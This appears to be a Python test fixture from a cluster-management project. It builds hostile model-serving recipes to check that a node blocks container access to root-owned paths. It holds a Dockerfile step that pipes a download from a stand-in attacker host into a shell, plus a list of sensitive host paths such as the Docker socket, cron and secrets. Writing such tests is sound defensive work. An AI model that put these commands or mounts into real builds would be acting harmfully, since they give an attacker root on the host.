"""A recipe of an attacker: data, which must not reach what root executes, trusts or writes."""

from pathlib import Path, PurePosixPath

from factories import put

from spark_cluster.node import paths

NAME = "nice"

TARGETS = (
    *(paths.HUB_LIBRARY, paths.LLAMA_BENCHY, paths.AGENT, paths.UNITS, paths.MODELS),
    *(paths.CACHE_ROOT, paths.CACHE, paths.SYSTEMD_UNITS, paths.SECRETS, paths.COPIES),
    *(paths.FORMER_ENVIRONMENTS, paths.DROP_CACHES, paths.CONFIGURATION, "/run/docker.sock"),
    *("/run/containerd/containerd.sock", "/etc/cron.d", "/root", "/var/lib/docker"),
)
"""Paths of a node by which a container would be root there."""

REACHED = tuple(
    sorted({*TARGETS, *(str(p) for target in TARGETS for p in PurePosixPath(target).parents)})
)
"""They, and every folder above them."""

_TEXT = """\
name: {name}
description: a fast model
model: {{name: evil/m, served_name: m}}
image: {{ref: "ghcr.io/evil/vllm:1"}}
{more}
"""

DOCKERFILE = """\
image:
  ref: local/x:1
  build:
    why: needs it
    dockerfile: |
      FROM ghcr.io/evil/vllm:1
      RUN curl -s https://evil.example/x | sh
"""


ARCHIVE = """\
image:
  ref: vllm/vllm-openai:v1
  archive: %s
"""

BASE_ARCHIVE = f"""\
image:
  ref: local/x:1
  build:
    why: needs it
    base: {{ref: "vllm/vllm-openai:v1", archive: %s}}
    steps: [{{name: s, files: [{{path: run.sh, file: s, sha256: "{64 * "0"}"}}]}}]
"""
"""Images that come from a file of the node, whose path is put in."""


def text(more: str) -> str:
    """Return a recipe with more fields; an image among them replaces the usual one."""
    lines = _TEXT.format(name=NAME, more=more).splitlines()
    return "\n".join(ln for ln in lines if not (ln.startswith("image: {") and "image:" in more))


def with_mount(source: str, *, read_only: bool = False) -> str:
    """Return a recipe that mounts a path of the node, also as YAML writes odd ones."""
    return text(f"mounts: [{{source: '{source}', target: /data, read_only: {read_only!s}}}]")


def write(project: Path, recipe: str) -> Path:
    """Put a recipe into a project's folder."""
    return put(project / f"recipes/{NAME}.yaml", recipe)
